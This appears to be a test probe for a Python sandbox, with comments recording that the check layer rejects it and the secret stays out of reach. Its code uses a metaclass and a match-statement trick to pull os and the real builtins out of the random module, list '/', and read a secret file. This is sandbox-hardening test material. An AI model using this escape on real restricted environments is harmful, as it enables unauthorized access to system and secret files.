# Tries: review finding 1 on a module: `match random: case Grab(os, builtins)` with
#   __match_args__ = ("_os", "__builtins__") reads random._os and the real builtins by
#   strings. `type` comes from type(kinds[0]), a spelling no static rule follows.
# Check layer: rejected (a positional pattern on a class other than Python's own
#   self-matching ones), at the case line.
# Sandbox layer: the probe holds os and the real open() ("reached os:"), but the secret
#   is not in the jail -> failed.
def grab(subject, Grab):
    match subject:
        case Grab(os, builtins):
            return os, builtins
    return None, None


import random
try:
    kinds = [type(1)]
    T = type(kinds[0])
except Exception:  # a runtime guard on type() may refuse it; the OS layer must hold without one
    T = ().__class__.__class__
Meta = T("Meta", (T,), {"__instancecheck__": lambda cls, obj: True})
os, builtins = grab(random, Meta("Grab", (), {"__match_args__": ("_os", "__builtins__")}))
print("reached os:", os, "real open():", "open" in builtins, sorted(os.listdir("/")))
print("ESCAPED" + ":", builtins["open"]("@@SECRET_PATH@@").read())
